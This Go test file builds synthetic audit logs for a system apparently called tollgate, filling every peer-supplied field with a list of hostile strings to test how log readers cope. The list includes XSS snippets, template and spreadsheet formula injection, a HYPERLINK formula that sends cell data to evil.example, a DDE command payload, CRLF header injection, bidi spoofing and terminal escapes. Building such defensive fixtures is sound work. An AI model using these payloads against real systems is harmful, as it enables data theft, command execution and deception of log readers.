package reviewtest

import (
	"strings"
	"time"

	"tollgate/audit/logfile"
)

// Payloads are texts that a peer could send to mislead a reader of records: markup, formulas of spreadsheets, controls, templates, and
// words without an end.
var Payloads = []string{
	`<script>alert(1)</script>`,
	`"><img src=x onerror=alert(1)>`,
	`</title></svg><script>alert(1)</script>`,
	`' onmouseover='alert(1)`,
	`javascript:alert(1)`,
	`{{.}}${7*7}`,
	`=1+1`,
	`+1+1`,
	`-1+1`,
	`@SUM(A1:A9)`,
	`=HYPERLINK("https://evil.example/?"&A1,"open")`,
	"\t=cmd|' /C calc'!A0",
	"a\u202egnp.exe",
	"\u2066\u200bhidden\u2069\u200f",
	"nul\x00byte",
	"line\r\nSet-Cookie: a=b",
	"\x1b[31mred\x1b[0m\x07",
	"line\u2028separator\u2029",
	"bad\xff\xfeutf8",
	"e\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301",
	strings.Repeat("W", 10<<10),
	strings.Repeat("审", 3<<10),
}

// Hostile writes a log in which each text that a peer fills in is one of [Payloads], each payload in one call, one refused call, one
// refused connection, one summary and one event. Made.Calls has the calls by their payloads.
func Hostile(dir string) Made {
	w := newWriter(dir, "tollgate/hostile", 3)
	w.begin(firstPlan)
	for i, payload := range Payloads {
		w.at(local(11, 16, 10, i, 0), func() { w.hostile(payload) })
	}
	return w.run()
}

// hostile writes the records of one payload.
func (w *writer) hostile(text string) {
	from := hostileTLS(text)
	peer := func(kind logfile.Kind, id string) *logfile.Record {
		w.made.Calling++
		return &logfile.Record{
			Kind: kind, Call: id, Plan: w.plan, Listener: "central", Identity: text, Source: "203.0.113.9", SourcePort: 40000, Method: text, Path: "/" + text, Query: "q=" + text,
			TLSIn: from, TLSOut: from, Detail: text, RequestID: text, Result: text, ErrorCode: text, ErrorMessage: text, AnswerHash: w.hash(64),
			QueryWithheld: []logfile.Withheld{{Name: text, Bytes: 9}},
			Fields:        hostileFields(text), TotalMicros: 777,
		}
	}
	intent := peer(logfile.KindIntent, w.id())
	w.made.Calls[text] = intent.Call
	intent.Caller, intent.IdentifiedBy, intent.Upstream, intent.Site, intent.Operation, intent.Effect = shop.name, "certificate", "bss", "cn", "PayOrders", "spend"
	intent.Credential, intent.Class, intent.AccessKey, intent.Account, intent.Decision = acme, "customer", w.keys[acme], credentials[acme].account, logfile.Allowed
	w.add(intent)
	outcome := *intent
	outcome.Kind, outcome.Outcome, outcome.Status, outcome.Decision = logfile.KindOutcome, logfile.Failed, 400, ""
	w.after(time.Second, func() { w.add(&outcome) })

	refused := peer(logfile.KindRefusal, w.id())
	refused.ClaimedCaller, refused.Decision, refused.Reason, refused.Stage, refused.Status = text, logfile.Refused, "bad_signature", logfile.StageVerify, 401
	w.add(refused)
	w.add(&logfile.Record{
		Kind: logfile.KindRefusal, Plan: w.plan, Listener: "central", Source: "203.0.113.9", Decision: logfile.Refused, Reason: "no common suite", Detail: text,
		Stage: logfile.StageHandshake, TLSFailure: logfile.TLSSuite, TLSIn: from,
	})
	w.summary(time.Minute, logfile.Count{Reason: text, Source: text, Caller: text, Count: 3})
	w.event(logfile.EventConfigRefused, text, text, text, "trigger", text)
	w.event(logfile.EventCredentialPaused, "", acme, text, "reason", text, "access_key", text)
	w.event("unheard_of", text, text, text, "data", text)
}

func hostileTLS(text string) *logfile.TLS {
	list := []string{text, text}
	return &logfile.TLS{
		Version: "TLS 1.3", Suite: text, Group: text, ALPN: text, ServerName: text, Peer: text, PeerFingerprint: fingerprint("ee"),
		Offer: &logfile.Offer{Versions: list, Suites: list, Groups: list, ServerName: text},
	}
}

func hostileFields(text string) []logfile.Field {
	return []logfile.Field{
		field(text, text, text), field("order_id", "order", text), field("customer_id", "customer", text, "c-17"), field("coupon_id", "coupon", text),
		{Name: "amount", Kind: "amount", Values: []string{text, "1.00"}, Unsummed: 1}, field("currency", "currency", text),
	}
}
